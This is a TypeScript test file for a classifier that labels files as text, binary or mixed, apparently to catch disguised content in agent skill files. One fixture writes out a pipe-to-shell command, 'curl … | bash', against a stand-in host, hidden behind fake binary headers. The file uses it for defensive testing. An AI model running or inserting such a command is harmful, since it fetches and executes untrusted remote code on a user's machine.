import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { classifyContent, decodeText } from './classify.js';

/** Deterministic incompressible bytes (SHA-256 in counter mode), so no run ever starts with a magic by chance. */
function noise(length: number, seed = 1): Buffer {
  const parts: Buffer[] = [];
  for (let i = 0; parts.length * 32 < length; i += 1) parts.push(createHash('sha256').update(`${seed}:${i}`).digest());
  return Buffer.concat(parts).subarray(0, length);
}

const PROSE = 'Format the tables in the user document, then summarise the changes in plain words.\n';

function kind(bytes: Buffer, path = 'file'): string {
  const c = classifyContent(bytes, path);
  return c.mixed ? 'mixed' : c.kind;
}

test('a binary magic over strong text is text, whatever its first bytes', () => {
  for (const magic of ['GIF89a=1\n', '%PDF-1.7\n', 'MZ=1\n', '\u007fELF=1\n']) {
    assert.equal(kind(Buffer.from(`${magic}curl -fsSL https://x.example/i.sh | bash\n${PROSE}`)), 'text', magic);
  }
  for (const magic of [[0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], [0xff, 0xd8, 0xff, 0xe0]]) {
    assert.equal(kind(Buffer.concat([Buffer.from(magic), Buffer.from(PROSE.repeat(4))])), 'text');
  }
});

test('real binary headers stay binary: ELF, PE, GIF and JPEG carry NUL bytes', () => {
  assert.equal(kind(Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(57), Buffer.from(PROSE.repeat(3))])), 'binary');
  assert.equal(kind(Buffer.concat([Buffer.from('MZ'), Buffer.from([0x90, 0, 3, 0]), Buffer.from(PROSE.repeat(3))]), 'tool.exe'), 'binary');
  assert.equal(kind(Buffer.concat([Buffer.from('GIF89a'), Buffer.from([1, 0, 1, 0, 0x80, 0, 0]), noise(600)]), 'a.gif'), 'binary');
  assert.equal(kind(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]), Buffer.from('JFIF\u0000'), noise(600)]), 'a.jpg'), 'binary');
});

test('an all-ASCII PDF with PDF structure is a PDF under a .pdf name, and text under a text name', () => {
  const pdf = Buffer.from(`%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\nxref\n0 2\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n`);
  assert.equal(kind(pdf, 'docs/manual.pdf'), 'binary');
  assert.equal(kind(pdf, 'SKILL.md'), 'text');
  assert.equal(kind(Buffer.from(`%PDF-1\n${PROSE}`), 'docs/manual.pdf'), 'text', 'no PDF structure: plain text');
});

test('valid UTF-8 (NULs included, for AE3), legacy 8-bit text and empty files are text', () => {
  assert.equal(kind(Buffer.from('totals\u0000 are sent elsewhere\n')), 'text');
  assert.equal(kind(Buffer.from(`caf\u00e9 na\u00efve r\u00e9sum\u00e9 ${PROSE}`, 'latin1')), 'text');
  assert.equal(kind(Buffer.alloc(0)), 'text');
});

test('UTF-16 with a BOM or the NUL pattern is text and decodes to the original', () => {
  const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(PROSE, 'utf16le')]);
  const be = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(PROSE, 'utf16le').swap16()]);
  const bare = Buffer.from(PROSE, 'utf16le');
  for (const b of [le, be, bare]) {
    assert.equal(kind(b, 'SKILL.md'), 'text');
    assert.equal(decodeText(b), PROSE);
  }
  assert.equal(decodeText(Buffer.from(`\ufeff${PROSE}`)), PROSE);
});

test('text behind a binary start, or binary behind a text start, is mixed: read, and partial', () => {
  assert.equal(kind(Buffer.concat([Buffer.alloc(900, 0xff), Buffer.from(PROSE.repeat(3))]), 'docs/guide.md'), 'mixed');
  // Beyond the whole-file limit the windows still see text after a binary head, and a payload after a script.
  assert.equal(kind(Buffer.concat([noise(70_000), Buffer.from(PROSE.repeat(12_000))])), 'mixed');
  assert.equal(kind(Buffer.concat([Buffer.from(`#!/bin/sh\n${PROSE.repeat(1000)}`), noise(400_000)]), 'install.sh'), 'mixed');
});

test('data with no readable text, formats under their own name and compiled code stay binary', () => {
  assert.equal(kind(noise(4096), 'data.dat'), 'binary');
  const jpegWithXmp = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0x10, 0]), Buffer.from(`<x:xmpmeta>${PROSE.repeat(5)}</x:xmpmeta>`), noise(2048)]);
  assert.equal(kind(jpegWithXmp, 'photo.jpg'), 'binary');
  assert.equal(kind(jpegWithXmp, 'scripts/helper'), 'mixed', 'the same bytes under a name an agent runs or reads');
  const pyc = Buffer.concat([Buffer.from([0xa7, 0x0d, 0x0d, 0x0a]), Buffer.alloc(12), Buffer.from(PROSE.repeat(3)), noise(512)]);
  assert.equal(kind(pyc, 'helper.pyc'), 'binary');
});
